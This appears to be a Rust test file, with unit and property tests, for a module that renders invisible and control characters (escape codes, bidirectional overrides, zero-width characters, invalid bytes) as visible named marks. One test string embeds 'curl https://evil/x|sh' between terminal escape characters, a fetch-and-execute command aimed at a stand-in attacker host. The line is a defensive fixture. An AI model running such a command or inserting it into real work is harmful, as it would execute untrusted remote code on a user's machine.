use proptest::prelude::*;
use serde_json::json;

use super::*;

/// What the pieces stand for, byte for byte.
fn bytes(pieces: Pieces<'_>) -> Vec<u8> {
    pieces
        .flat_map(|piece| match piece {
            Piece::Text(text) => text.as_bytes().to_vec(),
            Piece::Mark(mark) => mark.bytes(),
        })
        .collect()
}

fn titles(text: &str) -> Vec<String> {
    pieces(text)
        .filter_map(|piece| match piece {
            Piece::Text(_) => None,
            Piece::Mark(mark) => Some(mark.title()),
        })
        .collect()
}

#[test]
fn what_nobody_sees_becomes_a_mark() {
    for (text, expected, count_of) in [
        ("plain\ttext\n", "plain\ttext\n", 0),
        ("é 日本 ≠ \u{a0}", "é 日本 ≠ \u{a0}", 0),
        (
            "+: \u{1b}];curl https://evil/x|sh #\u{7}",
            "+: ⟨ESC⟩];curl https://evil/x|sh #⟨BEL⟩",
            2,
        ),
        ("\0\u{8}\u{1f}\u{7f}", "⟨NUL⟩⟨BS⟩⟨US⟩⟨DEL⟩", 4),
        ("a\u{9b}31m\u{85}", "a⟨U+009B⟩31m⟨U+0085⟩", 2),
        ("if a\u{202e}b\u{2066}", "if a⟨U+202E⟩b⟨U+2066⟩", 2),
        (
            "a\u{200b}b\u{200d}c\u{feff}",
            "a⟨U+200B⟩b⟨U+200D⟩c⟨U+FEFF⟩",
            3,
        ),
        (
            "so\u{ad}ft \u{34f}\u{61c}",
            "so⟨U+00AD⟩ft ⟨U+034F⟩⟨U+061C⟩",
            3,
        ),
        (
            "\u{115f}\u{1160}\u{3164}\u{ffa0}",
            "⟨U+115F⟩⟨U+1160⟩⟨U+3164⟩⟨U+FFA0⟩",
            4,
        ),
        (
            "\u{17b4}\u{17b5}\u{180e}\u{2800}",
            "⟨U+17B4⟩⟨U+17B5⟩⟨U+180E⟩⟨U+2800⟩",
            4,
        ),
        (
            "\u{2028}\u{2029}\u{fff9}\u{fffb}",
            "⟨U+2028⟩⟨U+2029⟩⟨U+FFF9⟩⟨U+FFFB⟩",
            4,
        ),
        (
            "\u{e0068}\u{e0069}\u{e0100}",
            "⟨U+E0068⟩⟨U+E0069⟩⟨U+E0100⟩",
            3,
        ),
        ("x\u{fe00}\u{fe0f}", "x⟨U+FE00⟩⟨U+FE0F⟩", 2),
        (
            "\u{fdd0}\u{fde0}\u{10ffff}",
            "⟨U+FDD0⟩⟨U+FDE0⟩⟨U+10FFFF⟩",
            3,
        ),
        ("10%\r20%\r\ndone\r", "10%⟨CR⟩20%⟨CR⟩\ndone⟨CR⟩", 2),
    ] {
        assert_eq!(shown(text), expected, "{text:?}");
        assert_eq!(count(text), count_of, "{text:?}");
        assert_eq!(bytes(pieces(text)), text.as_bytes(), "{text:?}");
    }
}

#[test]
fn emoji_of_visible_characters_are_text() {
    for emoji in [
        "⚠\u{fe0f}",
        "👩\u{200d}💻",
        "❤\u{fe0f}\u{200d}🔥",
        "1\u{fe0f}\u{20e3}",
        "👍🏽",
        "🇫🇷",
    ] {
        assert_eq!(count(emoji), 0, "{emoji}");
        assert_eq!(shown(emoji), emoji);
    }
    for (hides, marks) in [
        ("⚠\u{fe0f}\u{fe0f}", 1),
        ("⚠\u{fe0e}", 1),
        ("a\u{fe0f}\u{200d}🔥", 2),
        ("👩\u{200d}\u{200d}💻", 2),
        ("👩\u{200d}rm", 1),
        ("👩\u{200d}", 1),
        ("1\u{fe0f}2", 1),
        ("🏴\u{e0067}\u{e007f}", 2),
    ] {
        assert_eq!(count(hides), marks, "{hides:?}");
    }
}

#[test]
fn a_mark_says_its_name() {
    assert_eq!(
        titles("\u{202e}\u{1b}\r\u{200b}\u{e0041}\u{fe00}\u{e0100}\u{9f}\u{206a}\u{13430}\u{fffe}"),
        [
            "U+202E right-to-left override",
            "U+001B escape",
            "U+000D carriage return",
            "U+200B zero width space",
            "U+E0041 tag A",
            "U+FE00 variation selector 1",
            "U+E0100 variation selector 17",
            "U+009F control character",
            "U+206A deprecated format character",
            "U+13430 invisible character",
            "U+FFFE noncharacter",
        ]
    );
}

#[test]
fn a_file_keeps_bytes_that_are_no_text() {
    let file = FileText::of(b"caf\xe9\r\n\xff\r\xf0\x9f\n");
    assert_eq!(file.shown(), "caf⟨0xE9⟩⟨CR⟩\n⟨0xFF⟩⟨CR⟩⟨0xF0⟩⟨0x9F⟩\n");
    assert_eq!(file.count(), 5);
    assert_eq!(file.as_str().lines().count(), 2);
    // It cannot speak of bytes that it does not have.
    let forged = FileText::of("\u{fddf}\u{fdef}".as_bytes());
    assert!(!forged.shown().contains("⟨0xFF⟩"), "{}", forged.shown());
}

#[test]
fn the_beginning_of_a_file_ends_with_a_whole_character() {
    for (content, shown) in [
        ("aé🌙".as_bytes(), "aé🌙"),
        (&"aé🌙".as_bytes()[..6], "aé"),
        (&"aé".as_bytes()[..2], "a"),
        (b"a\r", "a"),
        (b"a\xff", "a⟨0xFF⟩"),
        (b"", ""),
    ] {
        let part = FileText::whole_part(content);
        assert_eq!(FileText::of(part).shown(), shown);
    }
}

#[test]
fn values_keep_what_json_would_spell_or_hide() {
    let value = json!({"a\u{200b}": ["\u{1b}[8m\r", "two\nlines", {"b": "\u{202e}\u{7f}\u{8}\u{c}"}], "n": 1});
    assert_eq!(count_in_json(&value), 7);
    let text = pretty(&value);
    assert_eq!(
        shown(&text),
        "{\n  \"a⟨U+200B⟩\": [\n    \"⟨ESC⟩[8m⟨CR⟩\",\n    \"two\\nlines\",\n    {\n      \"b\": \"⟨U+202E⟩⟨DEL⟩⟨BS⟩⟨FF⟩\"\n    }\n  ],\n  \"n\": 1\n}"
    );
    assert_eq!(pretty(&json!({})), "{}");
}

#[test]
fn one_line_stays_one() {
    assert_eq!(shown_in_line("a\r\nb\tc\u{2028}d"), "a⟨CR⟩ b c⟨U+2028⟩d");
}

/// Text in which the odd is frequent.
fn odd_text() -> impl Strategy<Value = String> {
    let odd = prop_oneof![
        any::<char>(),
        prop::sample::select(vec![
            'a',
            '1',
            ' ',
            '\n',
            '\r',
            '\t',
            '\u{1b}',
            '\u{200d}',
            '\u{fe0f}',
            '\u{20e3}',
            '⚠',
            '👩',
            '\u{fdd0}',
            '\u{fde1}',
            '\u{202e}',
            '\u{e0041}',
            '⟨',
        ]),
    ];
    prop::collection::vec(odd, 0..40).prop_map(String::from_iter)
}

fn odd_bytes() -> impl Strategy<Value = Vec<u8>> {
    let part = prop_oneof![
        odd_text().prop_map(String::into_bytes),
        prop::collection::vec(any::<u8>(), 0..6),
    ];
    prop::collection::vec(part, 0..5).prop_map(|parts| parts.concat())
}

proptest! {
    #[test]
    fn no_byte_of_a_text_is_lost(text in odd_text()) {
        prop_assert_eq!(bytes(pieces(&text)), text.as_bytes());
    }

    #[test]
    fn no_byte_of_a_file_is_lost(content in odd_bytes()) {
        let file = FileText::of(&content);
        prop_assert_eq!(bytes(file.pieces()), content);
        prop_assert!(!file.as_str().contains('\r'));
    }

    #[test]
    fn a_file_that_is_text_is_shown_as_the_text_is(text in odd_text()) {
        prop_assume!(!text.contains(|it| matches!(it, '\u{fdd0}'..='\u{fdef}')));
        let file = FileText::of(text.as_bytes());
        prop_assert_eq!(file.count(), count(&text));
        prop_assert_eq!(file.shown(), shown(&text));
    }

    #[test]
    fn a_file_is_counted_as_it_is_shown(content in odd_bytes()) {
        let text = String::from_utf8_lossy(&content);
        prop_assume!(!text.contains(|it| matches!(it, '\u{fdd0}'..='\u{fdef}')));
        prop_assert_eq!(FileText::count_in(&content), FileText::of(&content).count());
    }

    #[test]
    fn what_is_shown_can_be_seen(content in odd_bytes()) {
        let text = FileText::of(&content).shown();
        // Those that make an emoji are text.
        let hidden = |it: &char| is_invisible(*it) && !matches!(it, '\u{200d}' | '\u{fe0f}');
        prop_assert_eq!(text.chars().find(hidden), None);
        prop_assert_eq!(shown(&text).into_owned(), text);
    }

    #[test]
    fn lines_come_apart_as_the_whole_does(content in odd_bytes()) {
        let file = FileText::of(&content);
        let lines = file.as_str().split_inclusive('\n');
        let (mut text, mut marks) = (String::new(), 0);
        for line in lines {
            text += &joined(FileText::pieces_of(line));
            marks += counted(FileText::pieces_of(line));
        }
        prop_assert_eq!(text, file.shown());
        prop_assert_eq!(marks, file.count());
    }

    #[test]
    fn text_is_never_empty_and_never_holds_a_mark(text in odd_text()) {
        for piece in pieces(&text) {
            if let Piece::Text(part) = piece {
                prop_assert!(!part.is_empty());
                prop_assert!(!part.contains(turns_direction));
            }
        }
    }
}
